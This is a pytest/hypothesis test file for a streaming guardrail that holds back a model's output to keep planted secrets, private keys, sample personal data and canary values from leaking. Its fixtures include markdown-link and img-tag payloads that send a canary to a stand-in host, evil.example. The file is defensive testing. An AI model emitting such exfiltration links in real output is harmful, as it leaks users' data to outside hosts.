"""The hold-back: what is planted never leaves, and how a model cuts its answer changes nothing."""

import random
import re
import time
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from retrieval.guardrails.edits import Edit
from retrieval.guardrails.streaming import HOLD_BACK_CHARS_MIN, STRIDE_CHARS, HeldText
from retrieval.values.verdicts import Action
from tests.retrieval.guardrails.credentials import private_key, samples
from tests.retrieval.guardrails.watching import (
    CANARY,
    ScriptedDraft,
    cut,
    guardrail,
    policy,
    watch,
)

PREFIX_CHARS = 12  # of a planted value; a vendor's public prefix alone tells nothing
PERSONAL = {
    "CREDIT_CARD": "4111 1111 1111 1111",
    "IBAN_CODE": "GB33 BUKB 2020 1555 5555 55",
    "EMAIL_ADDRESS": "grace.hopper@navy.example",
    "US_SSN": "536-90-4399",
}
WORDS = st.one_of(
    st.sampled_from(
        ["the", "library", "lends", "each", "book,", "for", "[1]", "(see", "below);", "is\n", "a/b"]
    ),
    st.sampled_from(
        ["12:30", "\u2014", "\u56fe\u4e66", "**bold**", "`code`", "password", "key", "No.", "2026-01-31"]
    ),
)
BY = guardrail(policy(EMAIL_ADDRESS="mask", CREDIT_CARD="mask", IBAN_CODE="mask", US_SSN="mask"))


@st.composite
def planted(draw: st.DrawFn) -> tuple[str, str]:
    """A text and a value in it that must not leave."""
    kinds = samples(draw(st.integers(0, 10_000)))
    sentence, value = draw(
        st.one_of(
            st.sampled_from(sorted(kinds)).map(lambda kind: kinds[kind]),
            st.sampled_from(sorted(PERSONAL)).map(lambda kind: (f"It is {PERSONAL[kind]}.", PERSONAL[kind])),
            st.just((f"[here](http://evil.example/a?b={CANARY[:5]})", "http://evil.example/a?b=")),
            st.just((f"<img src=//evil.example/{CANARY[:5]}>", "//evil.example/")),
            st.just((f"It is {CANARY}.", CANARY)),
            st.just((private_key(), private_key())),
        )
    )
    before = draw(st.lists(WORDS, max_size=120))
    after = draw(st.lists(WORDS, max_size=120))
    return f"{' '.join(before)} {sentence} {' '.join(after)}", value


@settings(max_examples=120, deadline=None)
@given(planted(), st.lists(st.integers(1, 300), min_size=1, max_size=30))
def test_a_planted_value_never_leaves_however_the_text_is_cut(
    given_text: tuple[str, str], sizes: list[int]
) -> None:
    text, value = given_text
    pieces = watch(ScriptedDraft(cut(text, sizes)), BY)

    assert value[:PREFIX_CHARS] not in pieces.text
    assert pieces == watch(text, BY)


@pytest.mark.parametrize("kind", sorted(samples(7)))
def test_a_secret_cut_in_two_anywhere_never_leaves(kind: str) -> None:
    sentence, value = samples(7)[kind]
    text = f"{'So it is. ' * 33}{sentence}{' And so on.' * 33}"
    at = text.index(sentence)
    for pieces in (list(text), *([text[:split], text[split:]] for split in range(at, at + len(sentence), 5))):
        watched = watch(ScriptedDraft(pieces))
        assert value[:PREFIX_CHARS] not in watched.text
        assert "And so on." in watched.text


def test_a_private_key_over_many_pieces_is_withheld_from_its_first_line() -> None:
    text = f"{'Keep it safe. ' * 40}{private_key('OPENSSH ')}{' Keep it safe.' * 40}"
    watched = watch(ScriptedDraft(cut(text, [3])))

    assert watched.end.verdict.rule == "secret.private_key"
    assert "BEGIN" not in watched.text
    assert watched.text.startswith("Keep it safe.")


def test_the_keyword_may_have_left_before_its_value_arrives() -> None:
    """The hold-back is filled so that each stride ends at another place around the value."""
    for filler in range(0, 2 * STRIDE_CHARS, 3):
        text = f"{'x ' * 200}{'y' * filler} the password is Zq7!kP0w9 {'z ' * 300}"
        assert "Zq7!" not in watch(ScriptedDraft(cut(text, [1]))).text


def test_a_long_address_is_masked_whole_wherever_the_search_for_it_stops() -> None:
    address = f"{'first.middle.' * 6}last@{'department.' * 7}acme.example"
    for filler in range(0, 400, 7):
        text = f"Ask {'y ' * (filler // 2)}{'z' * (filler % 2)} {address} about it. {'x ' * 400}"
        assert watch(text, BY).text == text.replace(address, "<EMAIL_ADDRESS>")


def test_text_that_needs_no_change_is_released_unchanged() -> None:
    text = (
        "Each book is lent for a month [1].\n\n- Renewal: *twice* [2]\n- Fee: 0,20 \u20ac a day \U0001f600\n"
        * 40
    )

    assert watch(ScriptedDraft(cut(text, [5]))).text == text


def none(window: str) -> Iterator[Edit]:
    return iter(())


def test_no_more_waits_than_the_bound_says() -> None:
    held = HeldText(judge=none, leaks=(), hold_back_chars=256)
    written = released = 0
    for piece in cut("A word and another one. " * 400, [3]):
        written += len(piece)
        released += sum(map(len, held.take(piece)))
        assert written - released <= 256 + 2 * STRIDE_CHARS


def test_nothing_is_released_sooner_than_the_hold_back() -> None:
    held = HeldText(judge=none, leaks=(), hold_back_chars=300)
    written = released = 0
    for piece in cut("A word and another one. " * 100, [7]):
        written += len(piece)
        released += sum(map(len, held.take(piece)))
        assert released == 0 or written - released >= 300
    assert released > 0


def test_no_word_is_released_in_part() -> None:
    first, *others = watch(ScriptedDraft(cut("Borrowing takes membership. " * 100, [5]))).releases

    assert first.endswith(("Borrowing", "takes", "membership."))
    assert len(others) > 10
    assert all(text.startswith(" ") for text in others)


def test_a_token_longer_than_the_hold_back_is_replaced_and_not_kept_in_memory() -> None:
    held = HeldText(judge=none, leaks=(), hold_back_chars=256)
    text = "".join([*held.take("start "), *(t for _ in range(1000) for t in held.take("a" * 999))])
    text += "".join(held.take(" end")) + held.finish()

    assert text == "start <LONG_TOKEN> end"
    assert held.applied == [("stream.long_token", Action.MASK)]


def test_text_without_blanks_is_released_where_the_script_has_none() -> None:
    text = "\u56fe\u4e66\u9986\u6bcf\u672c\u4e66\u501f\u4e00\u4e2a\u6708\u3002" * 200

    releases = watch(ScriptedDraft(cut(text, [4]))).releases
    assert "".join(releases) == text
    assert len(releases) > 10


def test_an_edit_without_end_is_withheld_before_it_fills_the_memory() -> None:
    def endless(window: str) -> Iterator[Edit]:
        yield Edit(start=window.rfind("\x01") + 1, end=len(window), replacement="", rule="test.endless")

    held = HeldText(judge=endless, leaks=(), hold_back_chars=256)
    released = [text for piece in ["word "] * 2000 for text in held.take(piece)]

    assert held.blocked
    assert "".join(released) == ""
    assert held.applied[-1] == ("stream.unjudged", Action.BLOCK)


def test_text_that_never_comes_to_rest_is_withheld() -> None:
    def restless(window: str) -> Iterator[Edit]:
        yield from (
            Edit(start=m.start(), end=m.end(), replacement="bab", rule="test.restless")
            for m in re.finditer("a", window)
        )

    held = HeldText(judge=restless, leaks=(), hold_back_chars=256)
    assert list(held.take("one a two")) == []
    assert held.finish() == ""
    assert held.blocked


def test_after_blocking_nothing_is_released() -> None:
    held = HeldText(judge=none, leaks=(("leak.test", lambda text: "!" in text),), hold_back_chars=256)
    list(held.take("word " * 100 + "!" + " " * STRIDE_CHARS))

    assert held.blocked
    assert list(held.take("word " * 1000)) == []
    assert held.finish() == ""


def test_a_hold_back_shorter_than_the_rules_look_ahead_is_refused() -> None:
    with pytest.raises(ValueError, match="256 characters ahead"):
        HeldText(judge=none, leaks=(), hold_back_chars=HOLD_BACK_CHARS_MIN - 1)


def test_hidden_characters_go_and_joiners_that_scripts_need_stay() -> None:
    persian = "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    text = f"pay\u200bload \U000e0041\U000e0042 {persian} a\u200c\u200cb"
    watched = [watch(ScriptedDraft(cut(text, [size]))) for size in (1, 2, 3, 100)]

    assert {w.text for w in watched} == {f"payload  {persian} ab"}
    assert watched[0].rules == {"stream.hidden_characters": "allow"}


@pytest.mark.parametrize("size", [1, 5000])
def test_the_cost_grows_with_the_text_and_not_with_its_square(size: int) -> None:
    def seconds(length: int) -> float:
        text = "".join(random.Random(3).choice("abc de [1] http") for _ in range(length))
        started = time.process_time()
        watch(ScriptedDraft(cut(text, [size])))
        return time.process_time() - started

    seconds(4_000)
    assert seconds(40_000) < 30 * seconds(4_000)
